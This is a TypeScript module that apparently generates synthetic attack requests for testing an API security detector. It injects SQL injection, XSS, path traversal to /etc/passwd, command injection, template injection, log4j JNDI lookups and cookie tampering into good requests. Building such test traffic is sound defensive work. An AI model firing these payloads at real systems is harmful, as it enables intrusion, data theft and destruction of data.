import { type Seeded, seeded } from '../../traffic/seeded.ts'
import { call, encoded, type Exchange, type Operation, word } from './api-world.ts'

/** One attack put into a good call; null: the call has no place for it. */
type Attack = (exchange: Exchange, random: Seeded) => Exchange | null

const value =
  (make: (random: Seeded) => string): Attack =>
  (exchange, random) => {
    const text = make(random)
    return inQuery(exchange, random, text) ?? inBody(exchange, random, text)
  }

const n = (random: Seeded): number => 1 + random.below(9999)

/** Kinds of attacks on one exchange. Numbers, names and places differ with the seed. */
export const attacks: Readonly<Record<string, Attack>> = {
  'sql injection': value(r =>
    r.pick([
      `${word(r)}' or ${n(r)}=${n(r)}--`,
      `' or '1'='1`,
      `1 union select ${word(r)},${word(r)} from ${word(r)}`,
      `${n(r)}) and sleep(${r.below(9)})#`,
      `";drop table ${word(r)};--`,
    ]),
  ),
  'cross-site scripting': value(r =>
    r.pick([
      `<script>${word(r)}(${n(r)})</script>`,
      `"><img src=x onerror=${word(r)}()>`,
      `javascript:${word(r)}(1)//`,
      `'-${word(r)}(1)-'`,
    ]),
  ),
  'path traversal': (exchange, random) => {
    const text =
      random.pick(['../'.repeat(2 + random.below(6)), '..\\'.repeat(3), '....//'.repeat(3)]) +
      random.pick(['etc/passwd', 'boot.ini', `${word(random)}.conf`])
    return random.below(2) === 0
      ? (inQuery(exchange, random, text) ?? inPath(exchange, random, text))
      : inPath(exchange, random, text)
  },
  'command injection': value(r =>
    r.pick([`;${word(r)}`, `| cat /etc/${word(r)}`, `\`${word(r)}\``, `$(${word(r)} -${word(r)})`, `${word(r)} && ls`]),
  ),
  'template injection': value(r => r.pick([`{{${n(r)}*${n(r)}}}`, `\${${n(r)}*${n(r)}}`, `<%= ${word(r)} %>`])),
  'log4j lookup in a header field': (exchange, random) => {
    const text = random.pick([`\${jndi:ldap://${word(random)}.example/a}`, `\${\${lower:j}ndi:rmi://${n(random)}/x}`])
    const name = random.pick(['user-agent', 'referer', 'accept-language'])
    return { ...exchange, headers: { ...exchange.headers, [name]: text } }
  },
  'log forging': value(r => `${word(r)}\r\n${n(r)} INFO ${word(r)} logged in`),
  'cookie injection': (exchange, random) => ({
    ...exchange,
    headers: {
      ...exchange.headers,
      cookie: random.pick([
        `${exchange.headers['cookie']}; admin=true`,
        `session=${word(random)}' or '1'='1; theme=dark`,
        `session=gASV${Buffer.from(`${word(random)}${word(random)}`).toString('base64')}==; theme=dark`,
      ]),
    },
  }),
  'unknown parameter': (exchange, random) => {
    const name = random.pick(['isAdmin', 'debug', 'role_override', 'callback', '__debug'])
    if (exchange.body?.startsWith('{') === true)
      return { ...exchange, body: JSON.stringify({ ...(JSON.parse(exchange.body) as object), [name]: true }) }
    const mark = exchange.url.includes('?') ? '&' : '?'
    return { ...exchange, url: `${exchange.url}${mark}${name}=1` }
  },
  'long value': value(r => word(r).repeat(60 + r.below(400))),
  'value outside the list': (exchange, random) =>
    inNamed(
      exchange,
      ['sort', 'state', 'kind', 'lang', 'currency', 'role', 'view', 'unit', 'level'],
      `${word(random)}x`,
    ),
  'text for a number': (exchange, random) =>
    inNamed(
      exchange,
      ['page', 'limit', 'amount', 'quantity', 'offset', 'year', 'price', 'size', 'rating'],
      random.pick([word(random), `${n(random)}e9`, '-1', '0x1f']),
    ),
  'unknown path': (exchange, random) => ({
    ...exchange,
    url: random.pick([
      `/api/internal/${word(random)}`,
      `/.env`,
      `/admin/${word(random)}.php`,
      `/api/v0/${word(random)}`,
    ]),
  }),
  'changed method': (exchange, random) => ({
    ...exchange,
    method: random.pick(exchange.method === 'GET' ? ['DELETE', 'PUT', 'TRACE'] : ['DELETE', 'GET', 'OPTIONS']),
  }),
  'repeated parameter': (exchange, random) => {
    const query = exchange.url.split('?')[1]?.split('&') ?? []
    if (query.length < 2) return null
    return { ...exchange, url: `${exchange.url}&${random.pick(query.slice(0, -1))}` }
  },
  'leaking answer': (exchange, random) => {
    if (exchange.status >= 400) return null
    const row = { ...(JSON.parse(exchange.responseBody) as object), passwordHash: `${n(random)}`, iban: word(random) }
    return {
      ...exchange,
      responseBody: JSON.stringify(random.below(2) === 0 ? row : Array.from({ length: 400 }, () => row)),
    }
  },
}

/** So many attacks of each kind, in good calls of the world. */
export function attackCalls(operations: readonly Operation[], each: number, seed: string): Map<string, Exchange[]> {
  const random = seeded(`attacks ${seed}`)
  const made = new Map<string, Exchange[]>()
  for (const [kind, attack] of Object.entries(attacks)) {
    const list: Exchange[] = []
    for (let i = 0; list.length < each && i < each * 40; i++) {
      const attacked = attack(call(random.pick(operations), random, `${kind} ${i}`), random)
      if (attacked !== null) list.push(attacked)
    }
    if (list.length > 0) made.set(kind, list)
  }
  return made
}

function inQuery(exchange: Exchange, random: Seeded, text: string): Exchange | null {
  const [path = '', query] = exchange.url.split('?')
  if (query === undefined || query === '') return null
  const pairs = query.split('&').map(pair => pair.split('=') as [string, string])
  const at = random.below(pairs.length)
  return {
    ...exchange,
    url: `${path}?${pairs.map(([name, own], i) => `${name}=${i === at ? encodeURIComponent(text) : own}`).join('&')}`,
  }
}

function inBody(exchange: Exchange, random: Seeded, text: string): Exchange | null {
  if (exchange.body === undefined || exchange.body === '') return null
  if (exchange.body.startsWith('{')) {
    const body = JSON.parse(exchange.body) as Record<string, unknown>
    const names = Object.keys(body)
    if (names.length === 0) return null
    return { ...exchange, body: JSON.stringify({ ...body, [random.pick(names)]: text }) }
  }
  const pairs = exchange.body.split('&').map(pair => pair.split('=') as [string, string])
  const at = random.below(pairs.length)
  return {
    ...exchange,
    body: encoded(pairs.map(([name, own], i) => [name, i === at ? text : decodeURIComponent(own)])),
  }
}

/** Some write the dots as they are, some escape them. */
function inPath(exchange: Exchange, random: Seeded, text: string): Exchange {
  const [path = '', query] = exchange.url.split('?')
  const written = random.below(2) === 0 ? text : encodeURIComponent(text).replaceAll('.', '%2e')
  return {
    ...exchange,
    url: `${path.slice(0, path.lastIndexOf('/') + 1)}${written}${query === undefined ? '' : `?${query}`}`,
  }
}

function inNamed(exchange: Exchange, names: readonly string[], text: string): Exchange | null {
  const [path = '', query] = exchange.url.split('?')
  const pairs = (query ?? '').split('&').map(pair => pair.split('=') as [string, string])
  if (pairs.some(([name]) => names.includes(name)))
    return {
      ...exchange,
      url: `${path}?${pairs.map(([name, own]) => `${name}=${names.includes(name) ? encodeURIComponent(text) : own}`).join('&')}`,
    }
  if (exchange.body?.startsWith('{') !== true) return null
  const body = JSON.parse(exchange.body) as Record<string, unknown>
  const name = names.find(one => one in body)
  return name === undefined ? null : { ...exchange, body: JSON.stringify({ ...body, [name]: text }) }
}
